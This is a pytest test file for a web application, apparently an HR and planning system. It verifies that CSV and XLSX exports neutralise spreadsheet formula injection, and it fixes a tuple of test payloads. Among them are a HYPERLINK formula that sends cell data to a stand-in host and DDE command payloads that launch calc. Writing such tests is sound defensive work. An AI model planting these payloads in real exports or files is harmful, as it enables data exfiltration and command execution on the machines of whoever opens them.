"""Formula injection: values that a spreadsheet would evaluate pass through every export route
(CSV and XLSX) as inert text, and no export is written outside `app.web.exports`."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from app.extensions import db
from app.org.models import Employee, OrgUnit, Position
from app.web.exports import FORMULA_TRIGGERS, neutralise, safe_cell
from tests.conftest import login
from tests.web.matrix.surveys import open_campaign
from tests.web.test_needs_pages import YEAR, analysed  # noqa: F401  (fixture)
from tests.web.test_surveys_results import stakeholder_answers, store

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A2,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
SEMICOLON = "aman;=1+1"  # split into a formula by a spreadsheet whose list separator is ';'
HR = "hr@test.example"
APP = Path(__file__).resolve().parents[2] / "app"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_inert(data: str) -> None:
    text = data.lstrip("\ufeff")
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if field and field[0] in FORMULA_TRIGGERS:
                assert _is_number(field), field
    # every unquoted field is a number (the reader turns it into a float or fails), so a
    # spreadsheet splitting on ';' or ',' never starts a cell inside a text field
    list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert "'=HYPERLINK(" in text


def assert_xlsx_inert(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    seen = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_TRIGGERS, cell.value
                    seen = seen or cell.value.startswith("'=HYPERLINK(")
    assert seen


def check_both(client, path: str) -> None:
    csv_response = client.get(f"{path.replace('{fmt}', 'csv')}")
    assert csv_response.status_code == 200, path
    assert_csv_inert(csv_response.get_data(as_text=True))
    xlsx_response = client.get(f"{path.replace('{fmt}', 'xlsx')}")
    assert xlsx_response.status_code == 200, path
    assert_xlsx_inert(xlsx_response.data)
    xlsx_response.close()


def check_both_via_job(client, path: str) -> None:
    """The same export written by a job: 303 to the progress page, then the file's download."""
    for fmt in ("csv", "xlsx"):
        queued = client.get(path.replace("{fmt}", fmt))
        assert queued.status_code == 303 and queued.location.startswith("/jobs/"), path
        page = client.get(queued.location).get_data(as_text=True)
        download = queued.location + "/download"
        assert f'href="{download}"' in page
        response = client.get(download)
        assert response.status_code == 200, path
        if fmt == "csv":
            assert_csv_inert(response.get_data(as_text=True))
        else:
            assert_xlsx_inert(response.data)
        response.close()


def poison_people(world) -> None:
    """Names, positions and units of instansi A hold the payloads (as an import could)."""
    values = iter(PAYLOADS * 4)
    for model, attribute in ((Employee, "name"), (Position, "name"), (OrgUnit, "name")):
        for item in db.session.scalars(select(model).order_by(model.id)):
            setattr(item, attribute, next(values))
    db.session.commit()


def test_the_neutralising_rule():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    assert neutralise("Saran biasa") == "Saran biasa" and neutralise("") == ""
    assert safe_cell(-2) == -2 and safe_cell(1.5) == 1.5 and safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_employee_export_is_inert(app, client, world):
    with app.app_context():
        poison_people(world)
    login(client, HR)
    check_both(client, "/employees/export.{fmt}")
    app.config["EXPORT_INLINE_MAX_ROWS"] = 0  # every export above zero rows runs as a job
    try:
        check_both_via_job(client, "/employees/export.{fmt}")
    finally:
        app.config["EXPORT_INLINE_MAX_ROWS"] = 5_000


def test_needs_export_is_inert(app, client, analysed):  # noqa: F811
    with app.app_context():
        poison_people(analysed)
    login(client, HR)
    check_both(client, f"/needs/export.{{fmt}}?year={YEAR}")
    app.config["EXPORT_INLINE_MAX_ROWS"] = 0
    try:
        check_both_via_job(client, f"/needs/export.{{fmt}}?year={YEAR}")
    finally:
        app.config["EXPORT_INLINE_MAX_ROWS"] = 5_000


def test_survey_export_free_text_is_inert(app, client, world):
    with app.app_context():
        campaign = open_campaign(world.a.id)
        for n, note in enumerate((*PAYLOADS, SEMICOLON)):
            answers = stakeholder_answers("masyarakat", 2 + n % 3, note)
            store(campaign, answers, org_unit_id=world.opd.id, stakeholder_group="masyarakat")
        db.session.commit()
        campaign_id = campaign.id
    login(client, HR)
    check_both(client, f"/surveys/results/export.{{fmt}}?campaign={campaign_id}")
    app.config["EXPORT_INLINE_MAX_ROWS"] = 0
    try:
        check_both_via_job(client, f"/surveys/results/export.{{fmt}}?campaign={campaign_id}")
    finally:
        app.config["EXPORT_INLINE_MAX_ROWS"] = 5_000
    text = client.get(f"/surveys/results/export.csv?campaign={campaign_id}").get_data(as_text=True)
    assert f'"{SEMICOLON}"' in text  # quoted: one field even where ';' separates fields


COVERED = {
    "/employees/export.<fmt>",
    "/needs/export.<fmt>",
    "/surveys/results/export.<fmt>",
    "/monitoring/export/<table>.xlsx",
    "/optimiser/scenarios/<int:scenario_id>/export.xlsx",
}


def test_optimiser_scenario_export_is_inert(app, client, world):
    from app.optimiser import services as optimiser
    from app.planning.models import PlanItem
    from tests.unit.optimiser.factories import drafted
    from tests.unit.planning.factories import HR as PLAN_HR

    with app.app_context():
        revision = drafted(world)
        for item, payload in zip(
            db.session.scalars(select(PlanItem).where(PlanItem.revision_id == revision.id)),
            PAYLOADS,
            strict=False,
        ):
            item.title = payload
        db.session.commit()
        scenario_id = optimiser.create_scenario(revision, PAYLOADS[0], 1.0, 0, PLAN_HR).id
        db.session.remove()
    login(client, HR)
    response = client.get(f"/optimiser/scenarios/{scenario_id}/export.xlsx")
    assert response.status_code == 200
    assert_xlsx_inert(response.data)
    response.close()


def test_every_export_route_is_covered(app):
    """A new export route must be added to the tests above (and use app.web.exports)."""
    rules = {rule.rule for rule in app.url_map.iter_rules() if "export" in rule.rule}
    assert rules == COVERED


@pytest.mark.parametrize("pattern", [r"\bxlsxwriter\b", r"csv\.(Dict)?[Ww]riter"])
def test_only_the_shared_writer_writes_spreadsheets(pattern):
    offenders = [
        str(path.relative_to(APP))
        for path in APP.rglob("*.py")
        if path != APP / "web" / "exports.py" and re.search(pattern, path.read_text())
    ]
    assert offenders == []
